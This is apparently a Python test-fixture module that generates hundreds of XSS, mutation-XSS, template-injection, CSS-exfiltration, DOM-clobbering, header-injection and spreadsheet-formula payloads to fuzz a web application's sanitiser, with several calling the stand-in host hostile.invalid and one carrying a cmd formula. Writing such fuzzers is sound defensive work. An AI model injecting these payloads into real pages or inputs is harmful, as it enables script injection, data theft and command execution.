"""The kinds of hostile strings. Each function gives strings without a number: where it belongs they say NUM.

`chance` is a seeded random.Random, so a kind is the same in every run.
"""

from itertools import product

from tests.hostile import writing
from tests.hostile.vocabulary import ADDRESSES, CALL, CALLS, CARRIERS, HANDLERS, HTML, MATHML, STARTERS, SVG

IMG = "<img src=x onerror=xss(NUM)>"
SCRIPT = "<script>xss(NUM)</script>"
LOAD = "<svg onload=xss(NUM)>"
SHORT = [IMG, SCRIPT, LOAD, "<svg/onload=xss(NUM)>", "<script src=//hostile.invalid/NUM></script>"]
SHORT += ["<iframe srcdoc='<script>parent.xss(NUM)</script>'>", "<a href=javascript:xss(NUM)>n</a>"]
SHORT += ["<details open ontoggle=xss(NUM)>", "<body onload=xss(NUM)>", "<input autofocus onfocus=xss(NUM)>"]
SHORT += ['" autofocus onfocus=xss(NUM) x="', "' autofocus onfocus=xss(NUM) x='"]


def elements(chance):
    """Every element with handlers that run by themselves, every handler on several elements, in all spellings."""
    for name in [*HTML, *SVG, *MATHML]:
        for handler in ["onload", "onerror", chance.choice(HANDLERS)]:
            yield _tag(chance, name, handler)
    for handler in HANDLERS:
        for name in chance.sample(HTML, 3) + chance.sample(SVG, 1):
            yield _tag(chance, name, handler)


def _tag(chance, name, handler):
    call = chance.choice(CALLS)
    space = chance.choice([" ", " ", "/", "\t", "\n", "\x0c", " x=y ", ' x="y"', "/x/"])
    plain = [f"={call}", f" = {call}", f"='{call}'", f"\n=\n'{call}'", f"=`{call}`", f'="{call}"']
    plain = [f"={call}", f" = {call}", f"='{call}'", f"\n=\n'{call}'", f"=`{call}`", f'="{call}"']
    quoted = chance.choice(plain[5:] if set(call) & set(" '`={") else plain)
    written = chance.choice([handler, handler, handler.upper(), handler.title()])
    ends = chance.choice([">", ">n", f">n</{name}>", "/>", " //", "><", ""])
    return f"<{name} {STARTERS.get(name, 'tabindex=0 autofocus')}{space}{written}{quoted}{ends}"


def addresses(chance):
    """Every carrier with several addresses, and every address in several carriers."""
    for carrier in CARRIERS:
        for address in [ADDRESSES[0], *chance.sample(ADDRESSES, 9)]:
            yield carrier.replace("URL", address)
    for address in ADDRESSES:
        for carrier in chance.sample(CARRIERS, 5):
            yield carrier.replace("URL", address)
        yield address


def markdown(chance):
    shapes = [
        "[n](URL)",
        "[n](<URL>)",
        "[n]( URL )",
        "[n](URL 'n')",
        '[n](URL "n\\" onmouseover=xss(NUM) x=\\"")',
        "![n](URL)",
        "![n](<URL>)",
        '![n" onerror="xss(NUM)](x)',
        "[![n](x)](URL)",
        "<URL>",
        "[n]: URL\n\n[n]",
        "[n]: <URL> 'n'\n\n[n][n] ![n]",
        "[n](URL\\\n)",
        "> [n](URL)",
        "1. [n](URL)",
        "**[n](URL)**",
        "[`n`](URL)",
        "[a[b](URL)](URL)",
        "[<b>n</b>](URL)",
        "| a |\n|---|\n| [n](URL) |",
        "[n]\n(URL)",
        "\\[n\\](URL)",
    ]
    for address in ADDRESSES:
        for shape in chance.sample(shapes, 5):
            yield shape.replace("URL", address)
    for shape in shapes:
        yield shape.replace("URL", ADDRESSES[0])
    inside = [IMG, SCRIPT, LOAD]
    blocks = [
        "```html\n%s\n```",
        "```%s\nn\n```",
        "~~~ %s\n~~~",
        "`%s`",
        "``` %s ```",
        "    %s",
        "# %s",
        "%s\n===",
        "* %s",
    ]
    blocks += [
        "> > > %s",
        "[%s](x)",
        "![%s](x)",
        "**%s**",
        "_%s_",
        "~~%s~~",
        "<!-- -->%s",
        "\\%s",
        "n  \n%s",
        "[n](x '%s')",
    ]
    blocks += [
        "> %s\n>\n> — %s",
        "| %s |\n|-|\n| %s |",
        "[%s]: x\n\n[%s]",
        "1) %s",
        "***\n%s",
        "`` ` %s",
        "<%s>",
        "n\n\n%s\n\nn",
    ]
    blocks += [
        "[n](https://hostile.invalid/%s)",
        "<https://hostile.invalid/%s>",
        "![](picture:1%s)",
        "https://hostile.invalid/%s",
    ]
    for block, call in product(blocks, inside):
        yield block.replace("%s", call)


def mutations(chance):
    """What a sanitiser reads in one way and the browser, the second time, in another."""
    outer = ["math", "svg", "math><mtext", "math><mi", "svg><foreignObject", "svg><desc", "svg><title", "math><mglyph"]
    outer += ["math><annotation-xml encoding=text/html", "form><math><mtext></form><form", "table><math", "select><svg"]
    outer += ["math><mtext><table><mglyph", "svg></p", "math></br", "p><svg><p"]
    raw = "style title noscript noembed noframes xmp plaintext textarea iframe script template select option".split()
    shapes = [
        "<{o}><{r}><img src=x onerror={c}></{r}>",
        "<{o}><{r}><!--</{r}><img src=x onerror={c}>--></{r}>",
        '<{o}><{r}><a id="</{r}><img src=x onerror={c}>"></a></{r}>',
        "<{o}><{r}><![CDATA[</{r}><img src=x onerror={c}>]]></{r}>",
        "<{o}><{r}>&lt;/{r}&gt;&lt;img src=x onerror={c}&gt;",
        "<{r}><{o}></{r}><img src=x onerror={c}>",
    ]
    for o, r in product(outer, raw):
        for shape in chance.sample(shapes, 2):
            yield shape.format(o=o, r=r, c=CALL)
    for r in raw:
        yield f'<{r}><p title="</{r}><img src=x onerror={CALL}>">'
        yield f"<{r}><!--</{r}><img src=x onerror={CALL}>-->"


def broken(chance):
    calls = [IMG, LOAD, SCRIPT]
    before = [
        "<",
        "<<",
        "<!",
        "<!--",
        "<!-->",
        "<!--->",
        "<!-- --!>",
        "<!--x--!>",
        "<!---->",
        "<![CDATA[",
        "<![CDATA[x]]>",
    ]
    before += [
        "<?",
        "<?xml ?>",
        "<?php echo '",
        "<%",
        "<%= '",
        "</",
        "</ ",
        "</p x='>",
        "<p title='",
        '<p title="',
        "<p title=`",
    ]
    before += [
        "<!DOCTYPE x [<!ENTITY n '",
        "<!--[if gte IE 4]>",
        "<![if IE]>",
        "<!ELEMENT",
        "<comment>",
        "<a <b ",
        "<a href='",
    ]
    before += [
        "<p/",
        "<\n",
        "<\0",
        "<x>",
        "<x ",
        "&lt;",
        "&",
        "&#",
        "&#x3c",
        "&#60;",
        "&lt",
        "\\<",
        "<script<",
        "<scr<script>ipt>",
    ]
    after = ["", ">", "-->", "]]>", "'>", '">', "`>", "?>", "%>", "<", "</"]
    for start, call in product(before, calls):
        yield start + call + chance.choice(after)
        yield start + call + chance.choice(after)
    yield from (
        "<img src=x onerror=xss(NUM)",
        "<img src=x onerror='xss(NUM)",
        "<svg onload=xss(NUM)//",
        "<script>xss(NUM)",
        "<script>xss(NUM)</script",
        "<script>xss(NUM)</script x>",
        "<script/x>xss(NUM)</script\t\n>",
        "<SCRIPT\n>xss(NUM)</SCRIPT\n>",
        "<script>/*</script>*/xss(NUM)//</script>",
        "<scr\0ipt>xss(NUM)</scr\0ipt>",
        "<scri<!-- -->pt>xss(NUM)</script>",
        "<sc<script>ript>xss(NUM)</sc</script>ript>",
        "<img src=x one<x>rror=xss(NUM)>",
        '<img """><script>xss(NUM)</script>">',
        "<img src='x'onerror=xss(NUM)>",
        "<img src=x:onerror=xss(NUM)>",
        "<img/src/onerror=xss(NUM)>",
        "<img src onerror\n=\nxss(NUM)>",
        "<img src=x onerror=xss(NUM) <p>",
        "< img src=x onerror=xss(NUM)>",
        "<\nimg src=x onerror=xss(NUM)>",
        "</img src=x onerror=xss(NUM)>",
        "<img src=x onerror&#61;xss(NUM)>",
        "<img src=x onerror&equals;xss(NUM)>",
        "<x onclick=xss(NUM)>n</x onclick=xss(NUM)>",
        '<br size="&{xss(NUM)}">',
        '<a href="x""onmouseover=xss(NUM)">n',
    )


def breakouts(chance):
    """Out of an attribute, an element, a string of script, a style, a comment, JSON in a page."""
    closing = [
        '">',
        "'>",
        "`>",
        ">",
        '"/>',
        "'/>",
        '" >',
        '\\">',
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</noscript>",
    ]
    closing += [
        "</SCRIPT >",
        "</script\n>",
        "</script/>",
        "</script><!--",
        "-->",
        "--!>",
        "]]>",
        "</xmp>",
        "</iframe>",
        "</select>",
    ]
    closing += [
        "</template>",
        "</option></select>",
        "</svg>",
        "</math>",
        "</button>",
        "</a>",
        "</li></ol>",
        "</div></div></div>",
    ]
    closing += [
        '"}</script>',
        '"]}</script>',
        '\\"}</script>',
        "\u2028</script>",
        "</ScRiPt>",
        "<!--<script>",
        "<!--</script>",
    ]
    closing += [
        "</p></blockquote>",
        "</td></table>",
        "</mark>",
        "</bdi>",
        "</time>",
        "</label>",
        "*/</script>",
        "\n\n</script>",
    ]
    for start, call in product(closing, [IMG, SCRIPT, LOAD]):
        yield start + call
    attributes = [
        "autofocus onfocus=",
        "onmouseover=",
        "onload=",
        "style=animation-name:x onanimationstart=",
        "onpointerenter=",
    ]
    quotes = [
        '" {} x="',
        "' {} x='",
        "` {} x=`",
        " {} ",
        '"{}',
        "'{}",
        '"\t{}\t',
        '"/{}/x="',
        "x\n{}\n",
        "&quot; {} ",
        "&#34; {} ",
    ]
    quotes += ['\\" {} ', "\xa0{}", "\x0c{} ", "%22 {} ", "＂ {} ", "”{} ", '" accesskey=x {} ', '"><x {} ']
    for quote, name in product(quotes, attributes):
        yield quote.format(name + chance.choice(CALLS[:5]))
    scripts = [
        "';%s//",
        '";%s//',
        "`;%s//",
        "\\';%s//",
        '\\";%s//',
        "'-%s-'",
        '"-%s-"',
        "`${%s}`",
        "${%s}",
        "*/%s/*",
        "\n%s\n",
        "\r%s",
    ]
    scripts += [
        "\u2028%s\u2029",
        "');%s//",
        '");%s//',
        "'});%s//",
        "]];%s//",
        "0;%s",
        "};%s;{",
        "\\u0027;%s//",
        "\\x27;%s//",
    ]
    scripts += [
        '"}]}</script><script>%s//',
        "__proto__[x]=%s",
        "constructor.constructor('%s')()",
        "//%s",
        "<!--\n%s",
        "-->\n%s",
    ]
    yield from (script.replace("%s", call) for script, call in product(scripts, CALLS[:3]))


def templates(chance):
    shapes = [
        "{{%s}}",
        "{{ %s|safe }}",
        "{%% autoescape off %%}%s",
        "{%% include '%s' %%}",
        "{%% load x %%}%s",
        "{#%s#}",
        "${%s}",
    ]
    shapes += [
        "#{%s}",
        "<%%=%s%%>",
        "<%%- %s %%>",
        "<?=%s?>",
        "[[%s]]",
        "((%s))",
        "@{%s}",
        "@(%s)",
        "{{{%s}}}",
        "{{=%s}}",
        "{!!%s!!}",
    ]
    shapes += [
        "{%% raw %%}%s",
        "*{%s}",
        "~{%s}",
        "$(%s)",
        "`%s`",
        "{{constructor.constructor('%s')()}}",
        "{{'a'.constructor.fromCharCode}}%s",
    ]
    shapes += [
        "{{$on.constructor('%s')()}}",
        "{{_c.constructor('%s')()}}",
        "{{x=>%s}}",
        "%%(x)s%s",
        "{0.__class__}%s",
        "%%s%%n%s",
    ]
    yield from (
        shape.replace("%s", call).replace("%%", "%") for shape, call in product(shapes, [CALL, IMG, "'xss(NUM)'"])
    )
    names = "v-html v-on:click @click :href v-bind:onclick ng-click ng-init ng-app ng-bind-html x-data x-init x-on:click x-html"
    names += " x-bind:onload on:click bind:innerHTML data-bind data-ng-init *ngIf (click) [innerHTML] is slot part data-onload"
    names += (
        " data-bs-toggle data-html data-content dangerouslySetInnerHTML data-remote data-method data-action wire:click"
    )
    for name in names.split():
        yield f'<div {name}="{CALL}">n</div>'
        yield f'" {name}="{CALL}" x="'


def swaps(chance):
    """htmx is on the pages of those who are signed in: its attributes are script too."""
    names = (
        "get post put patch delete boost push-url select select-oob swap swap-oob target trigger vals confirm disable"
    )
    names += " disabled-elt disinherit encoding ext headers history history-elt include indicator inherit params prompt"
    names += " preserve replace-url request sync validate vars on on:click on::load on:htmx:load on--after-request"
    values = {
        "trigger": "load[xss(NUM)]",
        "vals": "js:{x:xss(NUM)}",
        "vars": "x:xss(NUM)",
        "headers": "js:{x:xss(NUM)}",
    }
    values |= {
        "get": "//hostile.invalid/NUM",
        "post": "/accounts/logout/",
        "swap-oob": "innerHTML:body",
        "target": "body",
    }
    values |= {"request": 'js:{"timeout":xss(NUM)}', "include": "body", "select-oob": "#main:beforeend"}
    for name in names.split():
        value = values.get(name, CALL)
        for written in (f"hx-{name}", f"data-hx-{name}"):
            yield f"<div {written}='{value}' hx-trigger=load>n</div>"
            yield f'" {written}="{value}" x="'
    yield from (
        f'<div id="{name}" hx-swap-oob="true">{IMG}</div>' for name in ("main", "comments", "thread", "comments-said")
    )
    yield "<div hx-ext='path-deps' ws-connect='ws://hostile.invalid/NUM' sse-connect='//hostile.invalid/NUM'>"
    yield "<meta name='htmx-config' content='{\"allowEval\":true,\"includeIndicatorStyles\":true}'>NUM"


def styles(chance):
    values = [
        "expression(xss(NUM))",
        "url(javascript:xss(NUM))",
        "url(//hostile.invalid/NUM)",
        "url('data:text/html,NUM')",
    ]
    values += [
        "exp/**/ression(xss(NUM))",
        "\\65xpression(xss(NUM))",
        "image-set('//hostile.invalid/NUM' 1x)",
        "attr(x url)",
    ]
    values += [
        "-webkit-image-set(url(//hostile.invalid/NUM) 1x)",
        "cross-fade(url(//hostile.invalid/NUM), red)",
        "var(--x)",
    ]
    names = "background background-image list-style content cursor behavior -moz-binding width filter mask border-image-source"
    for name, value in product(names.split(), values):
        yield f'<p style="{name}:{value}">n</p>'
    rules = [
        "@import '//hostile.invalid/NUM';",
        "@import url(//hostile.invalid/NUM)",
        "*{background:url(//hostile.invalid/NUM)}",
    ]
    rules += [
        "@font-face{font-family:x;src:url(//hostile.invalid/NUM)}*{font-family:x}",
        "@namespace x url(//hostile.invalid/NUM);",
    ]
    rules += [
        "input[value^=a]{background:url(//hostile.invalid/NUM)}",
        "@charset 'utf-7';+ADw-",
        "body{display:none}/*NUM*/",
    ]
    rules += [
        "@\\69mport '//hostile.invalid/NUM'",
        "*{x:expression(xss(NUM))}",
        "{}*{background:url(//hostile.invalid/NUM)",
    ]
    wraps = [
        "<style>%s</style>",
        "</style><style>%s",
        "<svg><style>%s</style>",
        "<link rel=stylesheet href='data:text/css,%s'>",
    ]
    wraps += ["</textarea><style>%s</style>", '"><style>%s</style>', "<div style='%s'>n</div>", "%s", "<xmp><style>%s"]
    yield from (wrap.replace("%s", rule) for wrap, rule in product(wraps, rules))
    fixed = "position:fixed;inset:0;z-index:99"
    yield from (f'<{name} style="{fixed}">NUM</{name}>' for name in "a p em li blockquote pre".split())


def names(chance):
    """Elements by whose id or name a script of the page would find something else (DOM clobbering)."""
    found = "attributes body children cookie currentScript defaultView domain documentElement firstChild forms getElementById"
    found += (
        " head htmx implementation innerHTML location main nodeName onload parentNode querySelector self src submit"
    )
    found += (
        " action method csrfmiddlewaretoken thread comments say top window xss config __proto__ constructor toString"
    )
    for name in found.split():
        yield f'<a id="{name}" href="javascript:xss(NUM)">n</a>'
        yield f'<form name="{name}"><input name="{name}" value="javascript:xss(NUM)"></form>'
        yield chance.choice(
            [
                f"<img name={name} src=x>NUM",
                f"<iframe name={name} src=x></iframe>NUM",
                f"<a id={name}><a id={name} name=x>NUM",
            ]
        )


def documents(chance):
    """What belongs into the head of a page, or makes another page in it."""
    yield from (
        "<base href=//hostile.invalid/NUM/>",
        "<base target=NUM>",
        "<meta http-equiv=refresh content='0;//hostile.invalid/NUM'>",
        "<meta http-equiv=Set-Cookie content='sessionid=NUM'>",
        "<meta http-equiv=Content-Security-Policy content='script-src *'>NUM",
        "<meta http-equiv=Content-Type content='text/html;charset=utf-7'>+ADw-script+AD4-xss(NUM)+ADw-/script+AD4-",
        "<meta charset=utf-7>+ADw-script+AD4-xss(NUM)+ADw-/script+AD4-",
        "<meta name=referrer content=unsafe-url><img src=//hostile.invalid/NUM>",
        "<link rel=prefetch href=//hostile.invalid/NUM>",
        "<link rel=preload as=script href=//hostile.invalid/NUM>",
        "<link rel=dns-prefetch href=//hostile.invalid/NUM>",
        "<link rel=canonical href=//hostile.invalid/NUM>",
        "<link rel=manifest href=//hostile.invalid/NUM>",
        "<html onload=xss(NUM)>",
        "<body onpageshow=xss(NUM)>",
        "<frameset onload=xss(NUM)>",
        "<title>NUM</title><script>xss(NUM)</script>",
        "<form action=//hostile.invalid/NUM><input name=password type=password>",
        "<form id=x></form><button form=x formaction=javascript:xss(NUM) autofocus>n",
        "<button form=say formaction=//hostile.invalid/NUM>n",
        "<input type=hidden name=csrfmiddlewaretoken value=NUM>",
        "<input type=hidden oncontentvisibilityautostatechange=xss(NUM) style=content-visibility:auto>",
        "<img src='//hostile.invalid/NUM?",
        "<textarea name=x>NUM",
        "<plaintext>NUM",
        "<noscript><p title='</noscript><img src=x onerror=xss(NUM)>'>",
        "<template shadowrootmode=open><script>xss(NUM)</script></template>",
        "<div><template shadowrootmode=closed><slot></slot><img src=x onerror=xss(NUM)></template></div>",
        "<xml id=x><a>&lt;img src=x onerror=xss(NUM)&gt;</a></xml><span datasrc=#x datafld=a dataformatas=html>",
        '<script type=importmap>{"imports":{"x":"//hostile.invalid/NUM"}}</script>',
        '<script type=speculationrules>{"prerender":[{"urls":["//hostile.invalid/NUM"]}]}</script>',
        "<script type=module>import '//hostile.invalid/NUM'</script>",
        "<script async src=//hostile.invalid/NUM></script>",
        "<script type=application/ld+json>{}</script><script>xss(NUM)</script>",
        "<svg><script>xss&#40NUM)</script>",
        "<svg><script>/*&midast;/xss(NUM)/*&midast;*/</script>",
        "<svg><script xlink:href=data:,xss(NUM) />",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss(NUM)</script></svg>#x'/>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.xss(NUM)</script>'>",
        "<object type=text/html data='data:text/html,<script>parent.xss(NUM)</script>'>",
        "<object><param name=src value=javascript:xss(NUM)></object>",
        "<embed type=image/svg+xml src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=parent.xss(NUM)>'>",
        "<video><source onerror=xss(NUM)></video>",
        "<picture><source srcset=x><img src=x onerror=xss(NUM)></picture>",
        "<p popover id=x onbeforetoggle=xss(NUM)>n</p><button popovertarget=x>n</button>",
        "<button command=--x commandfor=x>n</button><dialog id=x oncommand=xss(NUM)>",
        "<marquee loop=1 width=0 onfinish=xss(NUM)>n</marquee>",
        "<keygen autofocus onfocus=xss(NUM)>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=xss(NUM)>",
    )
    inner = [
        IMG,
        SCRIPT,
        LOAD.replace("xss", "parent.xss"),
        "<a href=javascript:parent.xss(NUM)>n</a>",
        "<base href=//hostile.invalid/>",
    ]
    wraps = ['<iframe srcdoc="%s"></iframe>', "<iframe srcdoc='%s'>", '<iframe sandbox="allow-scripts" srcdoc="%s">']
    for wrap, content, written in product(wraps, inner, [str, writing.named, writing.decimal]):
        yield wrap.replace("%s", written(content.replace("(NUM)", "`NUM`")).replace(writing.decimal("NUM"), "NUM"))


def xml(chance):
    """For feeds and sitemaps that are opened as documents."""
    xhtml = "xmlns='http://www.w3.org/1999/xhtml'"
    calls = [
        f"<script {xhtml}>xss(NUM)</script>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss(NUM)</x:script>",
    ]
    calls += [
        f"<img {xhtml} src='x' onerror='xss(NUM)'/>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='xss(NUM)'/>",
    ]
    calls += [f"<iframe {xhtml} src='javascript:parent.xss(NUM)'/>", f"<a {xhtml} href='javascript:xss(NUM)'>n</a>"]
    before = [
        "",
        "]]>",
        "</title>",
        "</name></author>",
        "</content></entry>",
        "</summary>",
        "--><!--",
        "]]]]><![CDATA[>",
        "'/>",
        '"/>',
    ]
    before += [
        "<?xml-stylesheet type='text/xsl' href='data:text/xml,NUM'?>",
        "<!DOCTYPE x [<!ENTITY x 'xss(NUM)'>]>",
        "</loc></url>",
    ]
    yield from (start + call for start, call in product(before, calls))
    yield "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='//hostile.invalid/NUM'/>"
    yield "<xsl:script xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>xss(NUM)</xsl:script>"


def written_otherwise(chance):
    for write, call in product(writing.ENCODED, SHORT):
        yield write(call.replace("NUM", "\ue000")).replace(write("\ue000"), "NUM").replace("\ue000", "NUM")


def odd_letters(chance):
    for write in writing.ODD:
        for call in chance.sample(SHORT, 6):
            yield write(call.replace("NUM", "\ue000")).replace("\ue000", "NUM")


def lines(chance):
    """Headers, logs, tables and letters are lines."""
    ends = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "\u2028", "\x0b", "\x85", "\\r\\n", "&#13;&#10;", "嘊嘍"]
    headers = [
        "Set-Cookie: x=NUM",
        "Location: javascript:xss(NUM)",
        f"Content-Type: text/html\r\n\r\n{SCRIPT}",
        "Bcc: NUM@hostile.invalid",
    ]
    headers += [
        "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>xss(NUM)</script>",
        "Refresh: 0;url=javascript:xss(NUM)",
    ]
    yield from (f"x{end}{header}" for end, header in product(ends, headers))
    yield from (
        f"{start}xss(NUM)"
        for start in ["=", "+", "-", "@", "\t=", "=cmd|' /C calc'!A0+", '=HYPERLINK("//hostile.invalid")+']
    )


def polyglots(chance):
    """One string for many places at once."""
    closers = [
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "</noscript>",
        "</template>",
        "</xmp>",
        "</select>",
    ]
    scripts = ["'/*", '"/*', "`/*", "*/", "//", "\\'", '\\"', "%0a", "${", "{{", "}}", "--!>"]
    for _ in range(150):
        head = chance.choice(["javascript:", "jaVasCript:", "", "data:text/html,", "#", "[n](", "> "])
        middle = "".join(chance.sample(scripts, 4) + chance.sample(closers, 5))
        tail = chance.choice(
            ['"><svg/onload=%s//>', "'><img src=x onerror=%s>", "<iframe/onload=%s//", "<sVg/oNloAd=%s//>\\x3e"]
        )
        yield head + middle + tail.replace("%s", chance.choice(CALLS[:5]))


def long_ones(chance):
    """Longer than fields take, or nested deeper than anybody writes."""
    for size in (60, 80, 100, 200, 400, 500, 1000, 3900):
        yield "A" * (size - 40) + IMG
        yield "<p " + "x" * (size - 40) + "><script>xss(NUM)</script>"
        yield IMG + " " * size + "n"
        yield f"[{'n' * size}](javascript:xss(NUM))"
    for opening in (
        "<div>",
        "<b><i>",
        "<svg>",
        "<math><mtext>",
        "<table>",
        "> ",
        "[",
        "![",
        "* ",
        "<!--",
        "**",
        "`",
        "<a href=x>",
        "&lt;",
    ):
        yield opening * 60 + IMG
        yield opening * 400 + IMG


KINDS = [elements, addresses, markdown, mutations, broken, breakouts, templates, swaps, styles, names, documents, xml]
KINDS += [written_otherwise, odd_letters, lines, polyglots, long_ones]
